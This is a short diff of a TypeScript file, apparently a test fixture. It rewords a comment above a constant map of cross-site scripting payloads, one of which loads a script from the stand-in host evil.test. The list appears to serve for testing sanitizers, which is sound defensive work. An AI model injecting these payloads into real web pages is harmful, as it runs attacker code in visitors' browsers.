@@ -1,4 +1,4 @@
-/** Spellings of "run this", each of which some browser or sanitizer once let through. */
+/** Ways to run a script, each of which some browser or sanitizer once let through. */
 export const scriptAttacks: Readonly<Record<string, string>> = {
   'a script': '<script>alert(1)</script>',
   'a script of another site': '<script src=//evil.test/x.js></script>',
